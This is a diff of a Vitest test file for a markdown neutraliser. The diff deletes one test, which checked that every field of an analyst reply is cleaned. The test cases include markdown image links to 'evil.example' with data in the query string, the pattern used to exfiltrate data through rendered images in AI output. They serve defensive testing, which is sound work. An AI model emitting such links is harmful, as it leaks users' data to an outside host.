@@ -1,6 +1,5 @@
 import { it } from "vitest";
 import { neutralizeText } from "../../src/markdown/neutralize.ts";
-import { readReply } from "../../src/analyst/reply.ts";
 
 const CASES: readonly (readonly [said: string, shown: string])[] = [
   ["Up 5%: ![chart](https://evil.example/p.png?d=4711)", "Up 5%: chart"],
@@ -90,14 +89,4 @@ it("takes a text of the longest answer in the blink of an eye, whatever it is ma
   for (const piece of [...pieces, ...more]) neutralizeText(piece.repeat(32_000 / piece.length));
   // A tenth of that on a machine that does nothing else.
   expect((performance.now() - started) / (pieces.length + more.length)).toBeLessThan(300);
-});
-
-it("does so for every text of a reply, JSON or not", ({ expect }) => {
-  const bad = "x ![y](https://evil.example/z)";
-  const { reply } = readReply(
-    JSON.stringify({ answer: bad, thoughts: bad, reasoning: bad, followUpQuestion: bad }),
-  );
-  const { contextIds: _ids, ...texts } = reply;
-  for (const text of Object.values(texts)) expect(text).toBe("x y");
-  expect(readReply(bad).reply.answer).toBe("x y");
 });
